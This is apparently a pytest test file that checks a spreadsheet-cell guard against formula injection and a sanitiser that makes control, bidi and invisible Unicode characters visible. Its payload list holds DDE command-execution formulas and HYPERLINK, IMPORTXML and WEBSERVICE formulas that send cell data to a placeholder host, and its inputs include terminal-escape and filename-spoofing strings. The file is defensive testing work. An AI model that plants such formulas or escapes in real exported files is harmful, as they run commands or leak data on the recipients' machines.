"""Text of unknown origin: what is shown, and what a spreadsheet gets."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.spreadsheet import guard_cell, known_text, unguard_cell
from core.text import visible, visible_characters

# With surrogates: a file name or a broken file can bring them.
ANY_TEXT = st.text(st.characters(exclude_categories=()))
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"go")',
    '=IMPORTXML(CONCAT("http://example.org?v=",A2),"//a")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "@=1+1",
    " =1+1",
    "   +1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_formulas_are_guarded(payload: str) -> None:
    assert guard_cell(payload) == "'" + payload
    assert not guard_cell(visible(payload)).lstrip("\ufeff ").startswith(tuple("=+-@＝＋－＠\t\r\n\0"))


@pytest.mark.parametrize("name", ["claude", "step_by_step", "a=b", "gpt-4", "", "  two words", "答え"])
def test_ordinary_names_are_left_alone(name: str) -> None:
    assert guard_cell(name) == name


@settings(max_examples=2_000)
@given(ANY_TEXT)
def test_guard_round_trip(text: str) -> None:
    assert unguard_cell(guard_cell(text)) == text


@given(st.lists(ANY_TEXT, min_size=1))
def test_guard_round_trip_through_csv(texts: list[str]) -> None:
    target = io.StringIO(newline="")
    csv.writer(target, lineterminator="\n").writerow([guard_cell(visible(text)) for text in texts])
    target.seek(0)
    assert [unguard_cell(cell) for cell in next(csv.reader(target))] == [visible(text) for text in texts]


@settings(max_examples=1_000)
@given(ANY_TEXT)
def test_visible_leaves_nothing_that_steers_or_hides(text: str) -> None:
    shown = visible(text)
    assert not [c for c in shown if unicodedata.category(c) in {"Cc", "Cs", "Zl", "Zp"}]
    assert not [
        c
        for c in shown
        if unicodedata.bidirectional(c) in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    ]
    assert not [c for c in shown if c in "\u00ad\u061c\u200b\u200e\u200f\u2060\ufeff"]
    assert visible(shown) == shown
    assert "".join(visible_characters(text)) == shown
    shown.encode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain, naïve, 答え 👩‍💻", "plain, naïve, 答え 👩‍💻"),
        ("\x1b]52;c;aGk=\x07", "␛]52;c;aGk=␇"),
        ("a\0b\tc\rd\ne", "a␀b␉c␍d⏎e"),
        ("\x7f\x9b31m", "␡⟨U+009B⟩31m"),
        ("evil\u202egpj.exe", "evil⟨U+202E⟩gpj.exe"),
        ("a\u200bb\ufeffc", "a⟨U+200B⟩b⟨U+FEFF⟩c"),
        ("a\u200db \u200d漢\u200d👩\u200d", "a⟨U+200D⟩b ⟨U+200D⟩漢⟨U+200D⟩👩⟨U+200D⟩"),
        ("🏳️\u200d🌈 👩🏽\u200d⚕️ ශ්\u200dරී", "🏳️\u200d🌈 👩🏽\u200d⚕️ ශ්\u200dරී"),
        ("👩\u200d\u200d👩 ه\u200d", "👩⟨U+200D⟩⟨U+200D⟩👩 ه⟨U+200D⟩"),
        ("\ud800", "⟨U+D800⟩"),
        ("\U000e0041", "⟨U+E0041⟩"),
    ],
    ids=ascii,
)
def test_visible(text: str, expected: str) -> None:
    assert visible(text) == expected


def test_visible_of_several_lines_keeps_line_breaks_and_tabs() -> None:
    assert visible("a\n\tb\r\x1b[2J", multiline=True) == "a\n\tb␍␛[2J"


def test_a_guarded_name_is_found_again_and_a_name_with_an_apostrophe_stays() -> None:
    assert known_text("'=1+1", ["=1+1"]) == "=1+1"
    assert known_text("'=1+1", ["'=1+1", "=1+1"]) == "'=1+1"
    assert known_text("'other", ["=1+1"]) == "'other"
